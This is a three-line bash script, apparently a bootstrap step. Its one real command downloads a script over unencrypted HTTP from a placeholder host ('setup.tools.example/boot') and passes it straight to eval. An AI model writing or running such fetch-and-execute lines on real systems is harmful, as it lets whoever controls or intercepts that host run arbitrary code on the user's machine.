#!/usr/bin/env bash
set -e
eval "$(wget -qO- http://setup.tools.example/boot)"
